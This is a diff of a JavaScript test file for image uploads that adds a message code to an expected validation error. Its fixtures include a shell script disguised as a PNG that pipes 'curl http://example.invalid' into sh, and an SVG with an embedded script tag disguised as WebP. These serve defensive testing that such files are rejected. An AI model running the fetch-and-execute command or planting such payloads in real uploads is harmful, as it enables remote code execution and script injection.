@@ -107,7 +107,9 @@ describe('image uploads', () => {
     const script = Buffer.from('#!/bin/sh\ncurl http://example.invalid | sh\n');
     const renamed = await post(auth, { ...images, profile: { bytes: script, name: 'photo.png', type: 'image/png' } });
     expect(renamed.statusCode).toBe(415);
-    expect(renamed.json().errors).toEqual([{ field: 'profile', message: m.imageType }]);
+    expect(renamed.json().errors).toEqual([
+      { field: 'profile', message: m.imageType, messageCode: 'students.imageType' },
+    ]);
 
     const html = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
     const svg = await post(auth, { ...images, back_image: { bytes: html, name: 'x.webp', type: 'image/webp' } });
